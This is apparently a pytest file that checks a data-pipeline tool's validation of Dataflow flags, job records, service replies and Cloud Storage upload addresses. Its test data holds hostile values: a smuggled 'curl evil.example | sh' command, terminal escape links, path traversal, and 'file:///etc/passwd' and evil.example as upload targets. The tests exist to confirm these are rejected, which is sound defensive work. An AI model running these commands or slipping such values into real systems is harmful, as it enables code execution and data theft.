"""Hostile records, services and flags: each is reported in one line, none is waited for indefinitely."""

import json
import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from apache_beam.options.pipeline_options import PipelineOptions

from refinery.loader.errors import CorruptObject, FormatError
from refinery.loader.format.manifest import seal, unseal
from refinery.loader.storage.fetch import FetchParams, Permanent
from refinery.loader.storage.gcs_store import GcsStore
from refinery.loader.storage.gcs_upload import UPLOAD_CHUNK, check_session
from refinery.loader.storage.open_store import open_store
from refinery.loader.storage.store import StorageError
from refinery.pipelines.cli.command_line import execute
from refinery.pipelines.run.inspection.inspection import inspect
from refinery.pipelines.run.inspection.text import json_line, text_lines
from refinery.pipelines.runners.dataflow.job_records import JobSpec, read_jobs, record_job
from refinery.pipelines.runners.dataflow.jobs import ServiceRefusal, ServiceTrouble
from refinery.pipelines.runners.dataflow.launch_flags import fill_in
from refinery.pipelines.runners.dataflow.service import DataflowService
from tests.lying_server import Answer, LyingServer, Request, answer, lying_server
from tests.pipelines.dataflow_graphs import NEEDED, OUTPUT, WORK
from tests.pipelines.small_runs import command

# --- flags ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "flag",
    [
        "--labels=pass" + "word=hunter2",
        "--experiments=api" + "-key=abc",
        '--beam_services={"private' + '_key":"abc"}',
        '--labels={"api' + '_key":"abc"}',
        "--dataflow_service_options=x=github_pat_" + "a" * 40,
        "--labels=t=Bearer " + "a" * 20,
        "--job_server_jvm_properties=-Dpass" + "word=x",
    ],
)
def test_credentials_are_found_inside_values(flag: str) -> None:
    with pytest.raises(ValueError, match="looks like a credential"):
        fill_in([*NEEDED, flag], output=OUTPUT, work=WORK, environment={})


@pytest.mark.parametrize(
    "flag",
    [
        "--experiments=foo=/home/me/x",
        "--labels=path=~/x",
        '--beam_services={"a:b":"/home/me/x.jar"}',
        '--transform_name_mapping={"a":"../x"}',
        "--gbek=type:x;name:/home/x",
    ],
)
def test_paths_are_found_inside_values(flag: str) -> None:
    with pytest.raises(ValueError, match="a path of this machine"):
        fill_in([*NEEDED, flag], output=OUTPUT, work=WORK, environment={})


@pytest.mark.parametrize(
    "flag",
    [
        "--experiments=x/" + "b" * 300,  # no file system has such a name
        "--labels=team=corpora-2",
        "--gbek=type:gcpsecret;version_name:projects/p/secrets/s/versions/1",
        "--dataflow_service_options=min_num_workers=3",
        "--worker_machine_type=n2-highmem-4",
    ],
)
def test_what_only_looks_so_is_taken(flag: str) -> None:
    assert flag in fill_in([*NEEDED, flag], output=OUTPUT, work=WORK, environment={})


def test_only_the_pickler_that_hides_paths_is_taken() -> None:
    with pytest.raises(
        ValueError, match=r"^--pickle_library: any value except Beam's default stores paths of this machine"
    ):
        fill_in([*NEEDED, "--pickle_library=dill"], output=OUTPUT, work=WORK, environment={})


# --- records --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("project", "x; curl evil.example | sh"),
        ("project", "../../.."),
        ("project", ""),
        ("region", "r --project other"),
        ("region", "\x1b[2J"),
        ("id", "2026-2"),
    ],
)
def test_a_forged_record_reaches_no_command_line(tmp_path: Path, field: str, value: str) -> None:
    store = open_store(tmp_path)
    job = record_job(store, JobSpec("demo", "dedup", None, ("x",), str(tmp_path), "r.json"), "2026-1", "p", "r")
    path = tmp_path / "jobs" / "dedup.2026-1.json"
    payload = unseal(path.read_bytes(), "")
    path.write_bytes(seal(payload | {"link": "\x1b]8;;https://evil.example\x07"}))
    assert read_jobs(store) == [job]  # its link is computed, not believed
    path.write_bytes(seal(payload | {field: value}))
    with pytest.raises(FormatError, match=r"found, which is not valid|it describes another job"):
        read_jobs(store)


@pytest.fixture(scope="module")
def finished(small: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small finished run."""
    prefix = tmp_path_factory.mktemp("finished") / "out"
    assert execute([str(word) for word in command(small, prefix)]) == 0
    return prefix


@pytest.fixture
def run(finished: Path, tmp_path: Path) -> Path:
    """A copy of it, as it was before its phases were closed."""
    prefix = Path(shutil.copytree(finished, tmp_path / "out"))
    for name in ("manifest.json", "work/clean.json", "work/dedup.json", "work/shards.json"):
        (prefix / name).unlink()
    return prefix


def change(path: Path, edit: Callable[[dict[str, Any]], Any]) -> None:
    payload = unseal(path.read_bytes(), "")
    edit(payload)
    path.write_bytes(seal(payload))


@pytest.mark.parametrize("name", ["clean/wave-00000.json", "dedup/report.json", "shards/report.json"])
def test_a_report_of_another_run_is_never_taken_over(
    small: Path, run: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The prefix was emptied for a new run while a job of the old one still ran, and wrote its report at its end."""
    change(run / "work" / name, lambda report: report.update(fingerprint="0" * 64))
    assert execute([str(word) for word in command(small, run)]) == 1
    assert f"{name} is of another run; it does not belong here: remove it" in capsys.readouterr().err
    assert not (run / "manifest.json").exists()


HUGE = 10**400
LIES: list[tuple[str, Callable[[dict[str, Any]], Any]]] = [
    ("_run.json", lambda run: run["inputs"][0].update(size=HUGE)),
    ("_run.json", lambda run: run["inputs"][0].update(size=-1)),
    ("_run.json", lambda run: run.update(name=["x" * 1_000_000])),
    ("work/clean/wave-00000.json", lambda wave: wave["counters"][0].update(documents=HUGE)),
    ("work/clean/wave-00000.json", lambda wave: wave["counters"][0].update(bytes=-5)),
    ("work/clean/wave-00000.json", lambda wave: wave["seconds"].update(read=HUGE)),
    ("work/clean/wave-00000.json", lambda wave: wave["parts"]["documents"][0].update(rows="9" * 5000)),
    ("work/clean/wave-00000.json", lambda wave: wave.update(fingerprint="0" * 64)),
]


@pytest.mark.parametrize(("name", "lie"), LIES)
def test_inspect_reports_numbers_that_cannot_be(run: Path, name: str, lie: Callable[[dict[str, Any]], Any]) -> None:
    assert inspect(str(run)).state == "started"
    change(run / name, lie)
    found = inspect(str(run))
    assert found.state == "damaged" and json.loads(json_line(found))["problems"]
    assert all(len(line) <= 2_000 for line in text_lines(found))


def test_lines_have_an_end(run: Path) -> None:
    change(run / "_run.json", lambda payload: payload.update(name="x" * 1_000_000))
    (line,) = [line for line in text_lines(inspect(str(run))) if line.startswith("name ")]
    assert len(line) == 2_000 and line.endswith("x…")


# --- a service that lies --------------------------------------------------------------------------------------------


@pytest.fixture
def server() -> Iterator[LyingServer]:
    with lying_server() as found:
        yield found


def service(server: LyingServer, project: str = "p") -> DataflowService:
    flags = [f"--dataflow_endpoint=http://localhost:{server.server_address[1]}", "--no_auth"]
    return DataflowService(PipelineOptions([*flags, f"--project={project}", "--region=region"]))


ANSWERS: dict[str, Answer] = {
    "another job": answer({"id": "other", "name": "x", "currentState": "JOB_STATE_DONE"}),
    "no job": answer({}),
    "a list": answer([]),
    "a page": (200, {}, b"<html>log in</html>"),
    "no text": (200, {}, b"\xff\xfe"),
    "nothing": (200, {}, b""),
    "depth": (200, {}, b"[" * 100_000),
    "another form of error": answer({"error": "denied"}, 403),
}


@pytest.mark.parametrize("name", ANSWERS)
def test_what_is_no_answer_about_the_job_is_trouble(server: LyingServer, name: str) -> None:
    server.act = lambda request: ANSWERS[name]
    with pytest.raises((ServiceTrouble, ServiceRefusal)) as caught:
        service(server).get("job")
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 500


@pytest.mark.parametrize("method", ["list", "errors"])
def test_lists_have_an_end(server: LyingServer, method: str) -> None:
    server.act = lambda request: answer({"jobs": [], "jobMessages": [], "nextPageToken": "again"})
    with pytest.raises(ServiceTrouble, match=r"^it returns the same page of a list again and again$"):
        list(getattr(service(server), method)("job"))
    assert len(server.requests) == 2


def test_a_job_is_never_asked_for_at_another_path(server: LyingServer) -> None:
    with pytest.raises(ValueError, match="Invalid"):
        service(server, "..").get("job")
    with pytest.raises(ValueError, match="Invalid"):
        service(server).get("../../x")
    assert not server.requests


# --- a bucket that lies ---------------------------------------------------------------------------------------------

HASTY = FetchParams(deadline=0.3, first_delay=0.01, max_delay=0.02, hedge_after=0)
LARGE = bytes(UPLOAD_CHUNK) * 2 + b"tail"


@pytest.fixture
def store(server: LyingServer, monkeypatch: pytest.MonkeyPatch) -> GcsStore:
    monkeypatch.setenv("STORAGE_EMULATOR_HOST", server.url)
    return GcsStore("gs://bucket/p", HASTY)


@pytest.mark.parametrize(
    "lie",
    [
        answer({}),
        answer([]),
        answer(None),
        answer({"size": [], "crc32c": 5}),
        answer({"size": "-1", "crc32c": "AAAAAA=="}),
        answer({"size": "3", "crc32c": "!!!"}),
        answer({"size": "3", "crc32c": "AAAA"}),
        answer({"error": "denied"}, 403),
        (200, {}, b"<html>log in</html>"),
    ],
)
def test_what_is_no_answer_about_an_object_is_an_error_of_storage(
    server: LyingServer, store: GcsStore, lie: Answer
) -> None:
    store.params = replace(HASTY, deadline=0.05)  # nothing is waited for: the answer stays the same
    server.act = lambda request: lie
    for call in (store.size, store.open, partial(store.create, source=b"abc")):
        with pytest.raises(StorageError, match=r"^gs://bucket/p/a: cannot be (looked up|written): "):
            call("a")


def test_a_listing_has_an_end(server: LyingServer, store: GcsStore) -> None:
    page = {"items": [{"name": "p/a", "crc32c": "AAAAAA==", "size": "1"}], "nextPageToken": "again"}
    server.act = lambda request: answer(page)
    with pytest.raises(StorageError, match=r"gs://bucket/p: cannot be listed: the service repeats a page"):
        store.list()


def session(server: LyingServer, location: str, answers: Iterator[Answer]) -> Callable[[Request], Answer]:
    return lambda request: answer({}, Location=location) if request.method == "POST" else next(answers)


@pytest.mark.parametrize(
    ("kept", "said"),
    [
        (
            (f"bytes=0-{UPLOAD_CHUNK - 1}", f"bytes=0-{UPLOAD_CHUNK // 2 - 1}"),
            r"3 upload sessions were lost; last: the service reports \d+ bytes, after",
        ),
        ((f"bytes=0-{UPLOAD_CHUNK}",), "3 upload sessions were lost; last: the service reports 8388609 bytes"),
        ((f"bytes=0-{10**15}",), "3 upload sessions were lost"),
        (("bytes=0--1",), "none of the bytes from 0 on was stored"),
    ],
    ids=["back and forth", "more than was sent", "more than there is", "never"],
)
def test_an_upload_that_never_ends_is_given_up(
    server: LyingServer, store: GcsStore, kept: tuple[str, ...], said: str
) -> None:
    server.act = session(server, f"{server.url}/session", cycle((308, {"Range": text}, b"") for text in kept))
    with pytest.raises(StorageError, match=said):
        store.create("a", LARGE)


@pytest.mark.parametrize(
    "place", ["https://evil.example/x", "https://storage.googleapis.com.evil.example/", "/x", "file:///etc/passwd", ""]
)
def test_bytes_and_credentials_go_to_the_service_alone(server: LyingServer, store: GcsStore, place: str) -> None:
    server.act = session(server, place, cycle([answer({})]))
    with pytest.raises(StorageError, match=r"the service gave an upload address at \S*, which is not its own$"):
        store.create("a", LARGE)
    assert "PUT" not in {request.method for request in server.requests}


@pytest.mark.parametrize("own", ["https://storage.googleapis.com", "https://storage.example.rep.googleapis.com"])
def test_sessions_of_google_are_fine(own: str) -> None:
    check_session("https://storage.googleapis.com/upload/storage/v1/b/b/o?upload_id=1", own)
    with pytest.raises(Permanent):
        check_session("http://storage.googleapis.com/upload", own)


def test_a_stream_that_ends_early_is_damaged(server: LyingServer, store: GcsStore) -> None:
    facts = answer({"size": "9", "crc32c": "AAAAAA==", "generation": "1"})
    server.act = lambda request: (416, {}, b"") if "alt=media" in request.path else facts
    with pytest.raises(CorruptObject, match=r"gs://bucket/p/a: it ends at byte 0, 9 expected"):
        store.open("a").read()


@pytest.mark.parametrize("url", ["gs://b?userProject=x/p", "gs://b#/p", "gs://../p", "gs://B/p", "gs://b\r\n/p"])
def test_a_buckets_name_is_no_request(url: str) -> None:
    with pytest.raises(ValueError, match=r"gs://bucket or gs://bucket/prefix is allowed"):
        open_store(url)


# --- what is asked of a bucket --------------------------------------------------------------------------------------


@pytest.mark.usefixtures("store")
def test_whether_a_bucket_is_empty_costs_one_request(server: LyingServer) -> None:
    items = [{"name": f"web/{number}", "crc32c": "AAAAAA==", "size": "1"} for number in range(10)]

    def act(request: Request) -> Answer:
        return answer({"items": items, "nextPageToken": "more"}) if "prefix" in request.path else answer({}, 404)

    server.act = act
    assert inspect("gs://bucket/web").state == "foreign"
    assert len([request for request in server.requests if "prefix" in request.path]) == 1
    items[:] = [{"name": "web/", "crc32c": "AAAAAA==", "size": "0"}]
    server.act = lambda request: answer({"items": items}) if "prefix" in request.path else answer({}, 404)
    assert inspect("gs://bucket/web").state == "empty"  # a console's mark of a folder
